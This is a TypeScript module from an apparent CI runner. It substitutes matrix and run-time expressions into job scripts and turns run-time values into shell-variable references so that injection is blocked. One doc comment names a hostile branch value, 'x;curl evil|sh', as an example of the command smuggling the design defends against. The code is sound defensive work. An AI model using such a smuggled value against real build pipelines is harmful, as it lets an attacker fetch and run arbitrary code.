import { isRuntimeExpression, substitute, toShellVariables } from '../model/expressions.js';
import type { Job, RunContext } from '../model/types.js';

export class ExpressionError extends Error {}

const EXPRESSION = /\$\{\{\s*([^}]*?)\s*\}\}/g;

/** `MATRIX_NODE_VERSION` for `node-version`. */
export function matrixEnvName(key: string): string {
  return `MATRIX_${key.toUpperCase().replace(/[^A-Z0-9_]/g, '_')}`;
}

/**
 * Replaces `${{ matrix.key }}` (the model usually has already, when it expanded the matrix) and rejects any
 * expression the runner does not know; run-time expressions are left for the caller.
 */
function substituteMatrixStrict(text: string, job: Job): string {
  return text.replace(EXPRESSION, (whole, expr: string) => {
    if (isRuntimeExpression(expr)) return whole;
    if (expr.startsWith('matrix.')) {
      const key = expr.slice('matrix.'.length);
      const matrix = job.matrix ?? {};
      if (Object.hasOwn(matrix, key)) return matrix[key]!;
      const keys = Object.keys(matrix);
      throw new ExpressionError(`\${{ ${expr} }}: expected a matrix key of this job (${keys.length ? keys.join(', ') : 'it has no matrix'})`);
    }
    throw new ExpressionError(`\${{ ${expr} }}: expected matrix.<key>, branch, sha, event, run.id or job.id`);
  });
}

/**
 * A `run` script ready for the shell: matrix values written in, run-time expressions turned into references to
 * the `GANTRY_*` variables every step has (the model's `toShellVariables`), so a branch named `x;curl evil|sh`
 * is expanded as data and never parsed as code.
 */
export function substituteScript(script: string, job: Job): string {
  return toShellVariables(substituteMatrixStrict(script, job));
}

/** An environment value: no shell reads it, so every value is written in as text. */
export function substituteText(text: string, job: Job, ctx: RunContext): string {
  return substitute(substituteMatrixStrict(text, job), { ...ctx, jobId: job.id });
}
